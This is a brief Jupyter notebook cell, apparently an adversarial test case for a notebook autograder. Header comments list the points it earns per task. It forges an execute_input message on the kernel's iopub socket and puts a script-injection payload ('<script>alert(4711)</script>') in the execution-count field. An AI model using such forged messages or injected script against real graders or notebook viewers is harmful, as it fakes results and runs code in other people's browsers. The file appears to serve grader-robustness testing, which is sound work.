# family: patched messages
# tries: sends a script where the number of the cell should stand
# earns: mnist_loader 5, flatten 3, manual_network 8, softmax 3, probabilities 0

# %% before softmax
kernel = get_ipython().kernel
content = {"code": "", "execution_count": "<script>alert(4711)</script>"}
kernel.session.send(kernel.iopub_socket, "execute_input", content, parent=kernel.get_parent())
